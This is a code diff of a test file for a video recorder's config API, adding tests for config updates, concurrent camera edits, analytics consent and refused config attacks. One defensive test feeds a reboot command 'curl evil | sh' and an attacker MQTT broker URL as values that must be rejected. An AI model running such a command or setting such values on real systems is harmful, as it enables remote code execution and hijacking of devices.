@@ -1,5 +1,5 @@
 import { Hono } from "hono";
-import { DEFAULT_CONFIG, validateConfig } from "../config/mod.ts";
+import { ConfigStore, DEFAULT_CONFIG, validateConfig } from "../config/mod.ts";
 import type { NvrConfig } from "../config/types.ts";
 import { REDACTED } from "../fleet/redact.ts";
 import { collectHealth } from "../health/mod.ts";
@@ -11,6 +11,7 @@ import { createAuthApp } from "./auth.ts";
 import { type Fixture, type Session, withApi } from "./auth_fixture.ts";
 import { SYSTEM_PATHS } from "./openapi.ts";
 import { createSystemApp } from "./system.ts";
+import { ANALYTICS_NOTICE } from "./analytics_consent.ts";
 
 const status = (id: string): CameraStatus => ({
   id,
@@ -50,6 +51,8 @@ async function withSystem(fn: (f: Fixture, sys: System) => Promise<void>): Promi
     const index = SegmentIndex.open(`${dir}/index.sqlite`);
     const applied: NvrConfig[] = [];
     const running = { config: STARTING };
+    // The real config writer on a real file, as the daemon has it.
+    const store = new ConfigStore(`${dir}/config.json`, STARTING);
     const auth = { users: f.users, audit: f.audit, now: () => f.clock.now };
     const app = new Hono();
     app.route("/api", createAuthApp(auth));
@@ -67,11 +70,12 @@ async function withSystem(fn: (f: Fixture, sys: System) => Promise<void>): Promi
             software: FIXTURE_SOFTWARE,
           }),
         config: () => running.config,
-        applyConfig: (config) => {
-          applied.push(config);
-          running.config = config;
-          return Promise.resolve();
-        },
+        updateConfig: (change) =>
+          store.update(change, (config) => {
+            applied.push(config);
+            running.config = config;
+            return Promise.resolve();
+          }),
         index: () => index,
         eventPollMs: 20,
       }),
@@ -103,7 +107,7 @@ Deno.test("system routes are all described in SYSTEM_PATHS", () => {
       auth: {} as never,
       health: () => Promise.reject(new Error("unused")),
       config: () => DEFAULT_CONFIG,
-      applyConfig: () => Promise.resolve(),
+      updateConfig: async (change) => await change(DEFAULT_CONFIG),
       index: () => {
         throw new Error("unused");
       },
@@ -175,8 +179,6 @@ Deno.test("config: read redacted; a bad one names the key and changes nothing; a
     const bad = structuredClone(config);
     bad.cameras[1].password = "new-pass";
     bad.cameras[0].url = "rtsp://10.0.0.5/stream1";
-    bad.mqtt.url = "mqtts://fleet.example.org:8883";
-    bad.mqtt.password = "new-mqtt";
     bad.storage.segmentSeconds = -5;
     let res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(bad) });
     assertEquals(res.status, 400);
@@ -185,14 +187,16 @@ Deno.test("config: read redacted; a bad one names the key and changes nothing; a
     assertEquals(body.error.field, "storage.segmentSeconds");
     assertMatch(body.error.message, /storage\.segmentSeconds/);
 
-    // The marker from GET left in a secret is refused, naming the key.
+    // The marker from GET in a new camera's secret is refused, naming the key (in a camera that
+    // was there, it stands for the secret as it is).
     const marked = structuredClone(bad);
     marked.storage.segmentSeconds = 30;
-    marked.cameras[1].password = REDACTED;
+    marked.cameras.push({ ...marked.cameras[1], id: "new", password: REDACTED });
     res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(marked) });
     body = await res.json();
     assertEquals(res.status, 400);
-    assertEquals(body.error.field, "cameras[1].password");
+    assertEquals(body.error.field, "cameras[2].password");
+    marked.cameras.pop();
     assertEquals(sys.applied.length, 0);
     assertEquals(sys.running.config, STARTING);
 
@@ -210,9 +214,86 @@ Deno.test("config: read redacted; a bad one names the key and changes nothing; a
     assertEquals(sys.applied.length, 1);
     assertEquals(sys.applied[0]?.storage.segmentSeconds, 30);
     assertEquals(sys.applied[0]?.cameras[1]?.password, "new-pass");
+    // The broker's secrets, shown redacted, stayed as they were (GET → edit → PUT round trip).
+    assertEquals(sys.applied[0]?.mqtt, STARTING.mqtt);
     const changes = f.audit.list({ action: "config.change" });
     assertEquals(changes.map((e) => e.outcome), ["ok", "failed", "failed"]);
     assertEquals(changes[0]?.userName, "Admin");
+  });
+});
+
+Deno.test("attack: admin PUT /api/config sets licence.publicKeys to [], its own keys file, a reboot command, the broker or analytics — refused naming the key, nothing applied", async () => {
+  await withSystem(async (f, sys) => {
+    const admin = await f.setupAdmin();
+    const { config } = await (await sys.call("GET", "/api/config", admin)).json();
+    const attempts: [string, (c: Record<string, Record<string, unknown>>) => void][] = [
+      ["licence.publicKeys", (c) => c.licence!.publicKeys = []],
+      ["licence.keysFile", (c) => c.licence!.keysFile = "/tmp/my-own-keys.json"],
+      ["mqtt.rebootCommand", (c) => c.mqtt!.rebootCommand = "curl evil | sh"],
+      ["mqtt.url", (c) => c.mqtt!.url = "mqtt://evil.example.org:1883"],
+      ["storage.dataDir", (c) => c.storage!.dataDir = "/tmp/elsewhere"],
+      ["analytics.enabled", (c) => c.analytics!.enabled = true],
+    ];
+    for (const [key, change] of attempts) {
+      const sent = structuredClone(config);
+      change(sent);
+      const res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(sent) });
+      const body = await res.json();
+      assertEquals([res.status, body.error.field], [400, key], key);
+      assertMatch(body.error.message, new RegExp(`^The configuration was not changed: ${key}: `));
+    }
+    assertEquals(sys.applied.length, 0);
+    assertEquals(sys.running.config, STARTING);
+  });
+});
+
+Deno.test("attack: two concurrent PATCH /api/cameras lose a change — both land, no 500", async () => {
+  await withSystem(async (f, sys) => {
+    const admin = await f.setupAdmin();
+    const patch = (id: string, body: unknown) =>
+      sys.call("PATCH", `/api/cameras/${id}`, admin, { body: JSON.stringify(body) });
+    const results = await Promise.all([
+      patch("gate", { name: "Gate" }),
+      patch("yard", { name: "Yard" }),
+      patch("gate", { enabled: false }),
+    ]);
+    assertEquals(results.map((r) => r.status), [200, 200, 200]);
+    await Promise.all(results.map((r) => r.body?.cancel()));
+    const cams = sys.running.config.cameras;
+    assertEquals(cams.map((c) => [c.id, c.name, c.enabled]), [
+      ["gate", "Gate", false],
+      ["yard", "Yard", true],
+    ]);
+    // Secrets in the file untouched by a change of another field.
+    assertEquals(cams[1]?.password, "hunter2");
+  });
+});
+
+Deno.test("analytics consent: only an admin on the local page, naming the notice; audited who, when, which notice", async () => {
+  await withSystem(async (f, sys) => {
+    const admin = await f.setupAdmin();
+    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
+    const put = (s: Session, body: unknown) =>
+      sys.call("PUT", "/api/analytics/consent", s, { body: JSON.stringify(body) });
+    const shown = await (await sys.call("GET", "/api/analytics/consent", admin)).json();
+    assertEquals([shown.enabled, shown.notice.version], [false, ANALYTICS_NOTICE.version]);
+    assertEquals(
+      (await put(viewer, { enabled: true, noticeVersion: shown.notice.version })).status,
+      403,
+    );
+    const stale = await put(admin, { enabled: true, noticeVersion: "old" });
+    assertEquals([stale.status, (await stale.json()).error.field], [409, "noticeVersion"]);
+    assertEquals(sys.applied.length, 0);
+    const ok = await put(admin, { enabled: true, noticeVersion: shown.notice.version });
+    assertEquals([ok.status, (await ok.json()).enabled], [200, true]);
+    assertEquals(sys.running.config.analytics.enabled, true);
+    const [entry] = f.audit.list({ action: "analytics.consent" });
+    assertEquals([entry?.userName, entry?.target, entry?.outcome], [
+      "Admin",
+      `analytics notice ${ANALYTICS_NOTICE.version}`,
+      "ok",
+    ]);
+    assertEquals(entry?.tsMs, f.clock.now);
   });
 });
 
@@ -304,7 +385,11 @@ Deno.test("mounted alone, the system routes still authenticate and check CSRF", 
         auth,
         health: () => Promise.reject(new Error("unused")),
         config: () => STARTING,
-        applyConfig: (config) => (applied.push(config), Promise.resolve()),
+        updateConfig: async (change) => {
+          const config = await change(STARTING);
+          applied.push(config);
+          return config;
+        },
         index: () => {
           throw new Error("unused");
         },
